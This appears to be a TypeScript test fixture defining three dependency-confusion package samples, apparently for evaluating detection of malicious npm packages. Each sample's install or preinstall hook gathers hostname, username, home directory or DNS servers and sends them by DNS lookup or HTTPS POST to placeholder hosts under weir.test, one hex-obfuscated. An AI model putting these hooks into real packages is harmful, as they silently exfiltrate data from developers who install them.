import { type Campaign, hex, manifest } from './kit.ts';

export const campaign: Campaign = {
  id: 'sl4x0',
  row: 'sl4x0 and other dependency-confusion PoCs 2025–26',
  variants: [
    {
      concealment: 'plain',
      files: {
        'package.json': manifest({
          name: '@corp-internal/utils',
          version: '99.9.9',
          scripts: { preinstall: 'node index.js' },
        }),
        'index.js': `const os = require('os'), dns = require('dns'), https = require('https');
const td = { p: __dirname, hd: os.homedir(), hn: os.hostname(), un: os.userInfo().username, dns: dns.getServers() };
dns.lookup(Buffer.from(td.hn).toString('hex') + '.d.interaction.weir.test', () => {});
const req = https.request({ hostname: 'x.interaction.weir.test', port: 443, path: '/', method: 'POST' });
req.write(JSON.stringify(td));
req.end();
`,
      },
    },
    {
      concealment: 'obfuscated',
      files: {
        'package.json': manifest({
          name: '@corp-internal/auth',
          version: '99.0.1',
          scripts: {
            preinstall: `node -e "require('dns').lookup(require('os').hostname()+'.'+Buffer.from('${hex('x.interaction.weir.test')}','hex'),()=>{})"`,
          },
        }),
        'index.js': 'module.exports = {};\n',
      },
    },
    {
      concealment: 'moved',
      files: {
        'package.json': manifest({
          name: 'internal-build-tools',
          version: '100.0.0',
          scripts: { install: 'npm run collect', collect: 'nslookup $(hostname).$(whoami).oob.weir.test' },
        }),
        'index.js': 'module.exports = {};\n',
      },
    },
  ],
};
